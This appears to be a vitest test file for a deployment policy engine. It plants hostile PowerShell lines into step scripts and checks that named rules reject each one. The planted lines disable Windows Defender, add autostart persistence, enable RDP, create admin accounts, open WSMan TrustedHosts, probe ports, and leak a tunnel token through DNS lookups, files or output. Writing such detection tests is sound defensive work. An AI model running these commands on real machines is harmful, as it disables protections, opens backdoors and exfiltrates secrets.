/**
 * Crafted footholds: host changes a deployment never needs (Defender preferences, autostart locations,
 * remote desktop, local accounts, WSMan TrustedHosts, executables copied from a share, network probes,
 * secrets sent where they can be read, sc.exe on another service). Each is planted in a real step
 * script, in more than one shape, and must be refused by the named rule (the unchanged script passes).
 */
import { beforeAll, describe, expect, it } from "vitest";
import { allViolations, loadRules } from "../../policy/rules";
import { prodConfig } from "../support/fixtures/configs";
import { command, step } from "./util";

beforeAll(loadRules);

const health = () => step("health", prodConfig).create;
const cloudflared = () => step("cloudflared", prodConfig).create;
const ALLOW = "host-script-allow-list";
const DOWNLOADS = "downloads-pinned-sha256";
const FIREWALL = "origin-firewall-cloudflare-only";

/** [kind, label, planted lines (after the health step unless `base` says otherwise), rule, message] */
type Shape = [kind: string, label: string, planted: string, rule: string, message: RegExp, base?: () => string];

const SHAPES: Shape[] = [
    ["defender", "Set-MpPreference", "Set-MpPreference -DisableRealtimeMonitoring $true", ALLOW, /Set-MpPreference changes Windows Defender/],
    ["defender", "Add-MpPreference exclusion", "Add-MpPreference -ExclusionPath 'C:\\'", ALLOW, /Add-MpPreference changes Windows Defender/],
    ["defender", "the Defender policy key", "New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force | Out-Null", ALLOW, /Windows Defender/],
    ["defender", "the Defender policy key through a variable", "$k = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection'\nSet-ItemProperty -Path $k -Name DisableRealtimeMonitoring -Value 1", ALLOW, /Windows Defender/],
    ["defender", "Stop-Service of the Defender service", "Stop-Service -Name WinDefend -Force", ALLOW, /a Windows Defender service/],
    ["defender", "Set-Service of the Defender network inspection service", "Set-Service -Name 'WdNisSvc' -StartupType Disabled", ALLOW, /a Windows Defender service/],
    ["autostart", "HKLM Run key", "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'C:\\x.exe'", ALLOW, /autostart/],
    ["autostart", "HKCU RunOnce key", "New-ItemProperty -LiteralPath 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce' -Name x -Value 'C:\\x.exe' | Out-Null", ALLOW, /autostart/],
    ["autostart", "the all-users profile script", "Add-Content -Path \"$PSHOME\\profile.ps1\" -Value 'iwr x'", ALLOW, /autostart/],
    ["autostart", "the all-users profile through $PROFILE", "Set-Content -Path $PROFILE.AllUsersAllHosts -Value 'x'", ALLOW, /autostart/],
    ["autostart", "the common Startup folder", "Copy-Item -Path 'C:\\x.exe' -Destination 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.exe'", ALLOW, /autostart/],
    ["rdp", "fDenyTSConnections", "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name 'fDenyTSConnections' -Value 0", ALLOW, /remote desktop/],
    ["rdp", "the Remote Desktop firewall group", "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'", ALLOW, /remote desktop/],
    ["rdp", "Win32_TerminalServiceSetting through WMI", "(Get-WmiObject -Class Win32_TerminalServiceSetting -Namespace root\\cimv2\\TerminalServices).SetAllowTSConnections(1, 1) | Out-Null", ALLOW, /remote desktop/],
    ["rdp", "network level authentication off", "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp' -Name UserAuthentication -Value 0", ALLOW, /remote desktop/],
    ["rdp", "starting the Remote Desktop service", "Set-Service -Name TermService -StartupType Automatic\nStart-Service TermService", ALLOW, /remote desktop/],
    ["rdp", "the Remote Desktop firewall group (firewall rule)", "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'", FIREWALL, /Enable-NetFirewallRule/],
    ["accounts", "New-LocalUser", "New-LocalUser -Name 'svc' -NoPassword | Out-Null", ALLOW, /New-LocalUser creates or changes a local account/],
    ["accounts", "Add-LocalGroupMember", "Add-LocalGroupMember -Group 'Administrators' -Member 'svc'", ALLOW, /Add-LocalGroupMember creates or changes a local account/],
    ["accounts", "net user /add", "net user svc P@ss /add", ALLOW, /runs net(\.exe)?, which is not one of the allowed programs/i],
    ["accounts", "net localgroup administrators (net.exe)", "net.exe localgroup administrators svc /add", ALLOW, /runs net\.exe, which is not one of the allowed programs/],
    ["trustedhosts", "Set-Item WSMan TrustedHosts", "Set-Item -Path 'WSMan:\\localhost\\Client\\TrustedHosts' -Value '*' -Force", ALLOW, /WSMan/],
    ["trustedhosts", "Set-Item WSMan TrustedHosts (alias, positional)", "si WSMan:\\localhost\\Client\\TrustedHosts * -Force", ALLOW, /WSMan/],
    ["trustedhosts", "the WSMan client's registry value", "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WSMAN\\Client' -Name trusted_hosts -Value '*'", ALLOW, /WSMan TrustedHosts/],
    ["trustedhosts", "winrm set", "winrm set winrm/config/client '@{TrustedHosts=\"*\"}'", ALLOW, /runs winrm/],
    ["share", "Copy-Item from a share", "Copy-Item -Path '\\\\server\\share\\x.exe' -Destination 'C:\\x.exe'", ALLOW, /network share/],
    ["share", "Copy-Item from a share through a variable", "$src = '\\\\server\\share\\x.exe'\ncopy $src 'C:\\x.exe'", ALLOW, /network share/],
    ["share", "Start-BitsTransfer from a share", "Start-BitsTransfer -Source '\\\\server\\share\\x.exe' -Destination 'C:\\x.exe'", DOWNLOADS, /a download \(Start-BitsTransfer\)/],
    ["share", "robocopy from a share", "robocopy \\\\server\\share C:\\tools x.exe", ALLOW, /runs robocopy(\.exe)?, which is not/i],
    ["probe", "Test-NetConnection", "Test-NetConnection -ComputerName 203.0.113.7 -Port 445 | Out-Null", ALLOW, /Test-NetConnection probes the network/],
    ["probe", "tnc (alias)", "tnc 203.0.113.7 -Port 22 | Out-Null", ALLOW, /Test-NetConnection probes the network/],
    ["probe", "Test-Connection", "Test-Connection -ComputerName example.net -Count 1 | Out-Null", ALLOW, /Test-Connection probes the network/],
    ["probe", "Invoke-WebRequest to another host", "Invoke-WebRequest -UseBasicParsing -Uri 'http://203.0.113.7/' | Out-Null", DOWNLOADS, /a download \(Invoke-WebRequest\)/],
    ["probe", "TcpClient to another host", "$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect('203.0.113.7', 445)", ALLOW, /a socket may only connect to a loopback literal/],
    ["secret to output", "Write-Output of a secret", "$t = Get-NovaSecret 'tunnelToken'\nWrite-Output $t", ALLOW, /writes a secret to the output/, cloudflared],
    ["secret to output", "Write-Host of a secret in a string", "Write-Host (\"token: \" + (Get-NovaSecret 'tunnelToken'))", ALLOW, /writes a secret to the output/, cloudflared],
    ["secret to output", "[Console]::WriteLine of a secret", "$t = $NovaSecrets.tunnelToken\n[Console]::Out.WriteLine($t)", ALLOW, /writes a secret to the output/, cloudflared],
    ["secret to output", "a secret as a bare statement", "$t = Get-NovaSecret 'tunnelToken'\n$t", ALLOW, /writes a secret to the output/, cloudflared],
    ["secret to file", "Set-Content of a secret", "$t = Get-NovaSecret 'tunnelToken'\nSet-Content -Path 'C:\\Users\\Public\\t.txt' -Value $t", ALLOW, /writes a secret to a file/, cloudflared],
    ["secret to file", "Out-File of a secret", "Get-NovaSecret 'tunnelToken' | Out-File 'C:\\t.txt'", ALLOW, /writes a secret to a file/, cloudflared],
    ["secret to file", "[IO.File]::WriteAllText of a secret", "$t = Get-NovaSecret 'tunnelToken'\n[System.IO.File]::WriteAllText('C:\\t.txt', $t)", ALLOW, /writes a secret to a file/, cloudflared],
    ["secret to output", "throw of a secret", "$t = Get-NovaSecret 'tunnelToken'\nthrow \"bad token $t\"", ALLOW, /writes a secret to the output \(the message of a throw/, cloudflared],
    ["secret to file", "a redirection of a secret", "Get-NovaSecret 'tunnelToken' > 'C:\\t.txt'", ALLOW, /writes a secret to a file with a redirection \(> 'C:\\t.txt'\)/, cloudflared],
    ["secret to file", "an appending redirection of every stream", "$t = $NovaSecrets.tunnelToken\nWrite-Output \"t=$t\" *>> C:\\ProgramData\\t.log", ALLOW, /writes a secret to a file with a redirection/, cloudflared],
    ["secret to machine variable", "a Machine-scope variable", "$t = Get-NovaSecret 'tunnelToken'\n[Environment]::SetEnvironmentVariable('T', $t, 'Machine')", ALLOW, /Machine-scope environment variable/, cloudflared],
    ["secret to machine variable", "a Machine-scope variable through the registry", "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment' -Name T -Value (Get-NovaSecret 'tunnelToken')", ALLOW, /Machine-scope environment/, cloudflared],
    ["secret in a DNS name", "Resolve-DnsName of a secret", "$token = Get-NovaSecret 'tunnelToken'\nResolve-DnsName \"$token.x.example.net\" | Out-Null", ALLOW, /sends a secret into a DNS name/, cloudflared],
    ["secret in a DNS name", "Resolve-DnsName of a secret, positional and concatenated", "Resolve-DnsName ((Get-NovaSecret 'tunnelToken') + '.x.example.net') | Out-Null", ALLOW, /sends a secret into a DNS name/, cloudflared],
    ["sc", "sc.exe stop of another service", "sc.exe stop WinDefend", ALLOW, /sc\.exe .*not ours/],
    ["sc", "sc.exe config through Invoke-NovaNative", "Invoke-NovaNative 'sc.exe' @('config', 'WinRM', 'start=', 'disabled') | Out-Null", ALLOW, /sc\.exe .*not ours/, cloudflared],
    ["sc", "sc.exe delete of a name held in a variable", "$n = 'MpsSvc'\nsc.exe delete $n", ALLOW, /sc\.exe .*not ours/],
    ["sc", "sc.exe on another machine", "sc.exe \\\\other create x binPath= C:\\x.exe", ALLOW, /sc\.exe .*not ours/],
];

describe("crafted footholds are refused", () => {
    it("the unchanged scripts pass every rule", () => {
        for (const script of [health(), cloudflared()]) expect(allViolations([{ type: "command:remote:Command", urn: "urn:c", props: command(script) }])).toEqual([]);
    });

    it("tries more than one shape of each kind (each destination of a secret a kind of its own)", () => {
        const kinds = new Map<string, number>();
        for (const [kind] of SHAPES) kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
        expect([...kinds.keys()].sort()).toEqual([
            "accounts", "autostart", "defender", "probe", "rdp", "sc", "secret in a DNS name", "secret to file", "secret to machine variable", "secret to output", "share", "trustedhosts",
        ]);
        for (const n of kinds.values()) expect(n).toBeGreaterThan(1);
    });

    it.each(SHAPES)("%s: %s", (_kind, _label, planted, rule, message, base = health) => {
        const resource = { type: "command:remote:Command", urn: "urn:c", props: command(`${base()}${planted}\n`) };
        expect(allViolations([resource]).filter((v) => v.rule === rule).map((v) => v.message)).toContainEqual(expect.stringMatching(message));
    });
});
